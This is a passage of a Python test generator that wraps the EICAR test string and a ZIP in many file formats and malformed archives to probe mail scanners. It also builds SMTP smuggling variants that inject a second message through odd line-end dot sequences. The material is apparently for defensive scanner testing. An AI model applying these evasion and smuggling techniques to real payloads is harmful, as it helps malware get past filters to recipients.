            b"/Filter[/ASCIIHexDecode/FlateDecode]"))),
        "ascii85": pdf(attached(stream(base64.a85encode(ZIP) + b"~>",
                                       b"/Filter/ASCII85Decode"))),
        "object-streams": tool("--object-streams=generate"),
        "empty-password": tool("--encrypt", "", "owner", "256", "--"),
        "empty-password-rc4": tool("--allow-weak-crypto", "--encrypt", "",
                                   "owner", "128", "--"),
        "update": parts.PDF + pdf(attached(flate), b""),
        "zip-behind": parts.PDF + ZIP,
    }


def documents():
    b64 = base64.b64encode(ZIP).decode()
    calendar = ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\n"
                "ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=e.zip:%s\r\n"
                "END:VEVENT\r\nEND:VCALENDAR\r\n")
    card = ("BEGIN:VCARD\r\nVERSION:3.0\r\nN:Suzuki\r\nPHOTO;ENCODING=b:%s\r\n"
            "END:VCARD\r\n")

    def folded(text):
        return text[:60] + "".join("\r\n " + text[i:i + 70]
                                   for i in range(60, len(text), 70))
    page = b"MIME-Version: 1.0\r\n" + parts.join(
        [parts.html_part("<html></html>"), parts.file_part("e.zip", ZIP)],
        "related", "----=_Next")
    mso = b"MIME-Version: 1.0\r\n" + parts.join(
        [parts.html_part("<html></html>"), parts.file_part(
            "editdata.mso", boxes.activemime(parts.cfb(
                {"\1Ole10Native": package(ZIP)})))], "related", "----=_Next")
    files = {"e.zip": ZIP}
    return {
        "onenote": ("a.one", parts.onenote(ZIP)),
        "lnk": ("a.lnk", parts.LNK), "lnk-overlay": ("a.lnk", parts.LNK + ZIP),
        "url": ("a.url", b"[InternetShortcut]\r\nURL=file://test.invalid/x\r\n"),
        "calendar": ("a.ics", (calendar % b64).encode()),
        "calendar-folded": ("a.ics", "\r\n".join(
            folded(l) if l.startswith("ATTACH") else l
            for l in (calendar % b64).split("\r\n")).encode()),
        "card": ("a.vcf", (card % b64).encode()),
        "msg": ("a.msg", boxes.msg(files)),
        "msg-in-msg": ("a.msg", boxes.msg({}, "", boxes.msg_tree(files))),
        "msg-renamed": ("a.doc", boxes.msg(files)),
        "page": ("a.mht", page), "page-as-doc": ("a.doc", page),
        "page-behind-words": ("a.doc", b"words\r\n\r\n" + page),
        "page-behind-pdf": ("a.doc", parts.PDF + b"\r\n" + page),
        "activemime": ("a.doc", mso),
        "tnef": ("winmail.dat", boxes.tnef(files)),
        "tnef-in-tnef": ("winmail.dat", boxes.tnef(
            {}, embedded={"in": boxes.tnef(files)})),
        "apple": ("a", boxes.apple(ZIP, "e.zip")),
        "library": ("a.library-ms", b"<?xml version=\"1.0\"?><libraryDescript"
                    b"ion><url>\\\\test.invalid\\x</url></libraryDescription>"),
    }


def cut_up():
    wide = EICAR.decode().encode("utf-16-le")
    half = len(EICAR) // 2
    for name, data in {
            "trailing": EICAR + b" \r\n\r\n", "trailing-junk": EICAR + b"junk",
            "leading": b"\r\n" + EICAR, "utf-16": b"\xff\xfe" + wide,
            "utf-16-no-mark": wide,
            "utf-16-big": EICAR.decode().encode("utf-16-be")}.items():
        yield name, mail(("a.zip", parts.plain_zip({"eicar.com": data})))
    # Two attachments that nothing joins are no payload; 7-Zip joins these.
    yield "two-pieces", mail(("eicar.com.001", EICAR[:half]),
                             ("eicar.com.002", EICAR[half:]))


def smuggled():
    second = ("MAIL FROM:<x@test.invalid>\r\nRCPT TO:<y@aratame.example>\r\n"
              "DATA\r\nFrom: x@test.invalid\r\nSubject: x\r\nMIME-Version: 1.0"
              "\r\nContent-Type: application/zip; name=e.zip\r\nContent-Transfer"
              "-Encoding: base64\r\n\r\n").encode() + \
        parts.base64_lines(ZIP).encode()
    head = (b"From: suzuki@partner.example\r\nTo: yamada@aratame.example\r\n"
            b"Subject: document\r\nDate: Wed, 02 Mar 2022 10:47:00 +0900\r\n"
            b"Message-ID: <1@partner.example>\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: text/plain\r\n\r\nHello\r\n")
    for name, dot in (("lf-dot-lf", b"\n.\n"), ("lf-dot-crlf", b"\n.\r\n"),
                      ("cr-dot-cr", b"\r.\r"), ("cr-dot-crlf", b"\r.\r\n"),
                      ("crlf-dot-lf", b"\r\n.\n"),
                      ("crlf-dot-cr", b"\r\n.\r"),
                      ("crlf-nul-dot", b"\r\n\0.\r\n")):
        yield name, head + dot.join((b"", second))
    part = parts.file_part("e.zip", ZIP)
    for name, stop in (("stray-cr-lines", b"\r"), ("lf-lines", b"\n"),
                       ("double-cr", b"\r\r\n")):
        yield name, parts.mail(parts.join([
            parts.text_part("Hello", "us-ascii"),
            part.replace(b"\r\n", stop)]))


GENERATED = (
    (46, "ZIP: local header and directory differ", "a.zip", headers_differ),
    (47, "ZIP: data in front, wrong offsets", "a.zip", prepended),
    (48, "ZIP: several archives, several end records", "a.zip", several),
    (49, "ZIP: a member in one of two lists only", "a.zip", one_sided),
    (50, "ZIP: wrong count of members", "a.zip", counts),
    (51, "ZIP: Zip64 fields that contradict", "a.zip", wide),
    (52, "ZIP: another name in the Unicode field", "a.zip", unicode_paths),
    (53, "ZIP: folders with content, backslashes", "a.zip", directories),
    (54, "ZIP: names twice, by case, by path", "a.zip", same_names),
    (55, "ZIP: special bytes in names", "a.zip", special_names),
    (56, "ZIP: encryption flag in one place", "a.zip", sealed_flags),
    (57, "ZIP: members that overlap", "a.zip", overlaps),
    (58, "ZIP: rare methods", "a.zip", methods),
    (62, "ZIP: data descriptors", "a.zip", descriptors),
    (63, "RAR 4 and 5", "a.rar", rars),
    (64, "7z", "a.7z", sevens),
    (65, "ISO 9660, Joliet, Rock Ridge, UDF", "a.iso", discs),
    (66, "disk images and rare archives", "a.img", rare),
    (67, "gzip: members, fields, damage", "a.gz", gzips),
    (68, "streams that begin with zeros", "a.gz", zeros_first),
    (69, "tar dialects and damage", "a.tar", tars),
    (70, "names that climb", "a.zip", paths),
    (71, "compound files", "a.doc", compounds),
    (71, "compound files", "a.docx", sealed_office),
    (72, "OOXML", "a.docx", ooxml),
    (73, "VBA", "a.xls", macros),
    (74, "RTF", "a.rtf", rtfs),
    (75, "PDF", "a.pdf", pdfs),
)
SPECIAL = (
    (59, "ZIP: seals", seals),
    (60, "ZIP: a sealed one in a sealed one", nested_seals),
    (61, "split archives", split),
    (64, "7z", sealed_sevens),
    (77, "EICAR cut up or widened", cut_up),
    (78, "smuggled by line ends", smuggled),
)


def techniques():
    for number, title, name, make in GENERATED:
        yield from each(number, title, name, make())
    yield 58, "ZIP: rare methods", "zstd", mail(("a.zip", zstd_zip()))
    for number, title, make in SPECIAL:
        for variant, message in make():
            yield number, title, variant, message
    for variant, (name, data) in documents().items():
        yield 76, "OneNote, LNK, ICS, VCF, MSG, MHTML", variant, mail(
            (name, data))
